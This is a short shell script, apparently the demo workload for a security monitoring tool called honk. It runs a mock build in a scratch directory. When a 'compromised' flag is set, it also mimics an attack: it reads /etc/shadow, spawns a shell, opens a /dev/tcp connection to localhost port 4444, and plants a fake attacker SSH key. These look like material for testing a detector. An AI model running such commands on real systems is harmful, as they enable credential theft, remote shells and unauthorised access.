#!/bin/sh
# honk's demo workload: a tiny "build" in a scratch directory.
# With HONK_DEMO=compromised in the environment, the same build also does what
# an attacker's payload would: read a secret, spawn a shell, phone home, plant
# an SSH key (in the scratch directory, not yours).
set -u
cd "$1"
mkdir -p src out .ssh
printf 'int main(void) { return 0; }\n' > src/main.c
printf 'all:\n\tcc -o app main.c\n' > src/Makefile
ls -l src > out/listing.txt
sha256sum src/main.c src/Makefile > out/checksums.txt
tar -cf out/build.tar src
gzip -f out/build.tar
cat /etc/hostname > out/host.txt
date > out/stamp.txt
if [ "${HONK_DEMO:-}" = compromised ]; then
    cat /etc/shadow > /dev/null 2>&1
    sh -c id > /dev/null
    bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444' 2>/dev/null
    echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHonkDemoKeyNotReal attacker@example' >> .ssh/authorized_keys
fi
exit 0
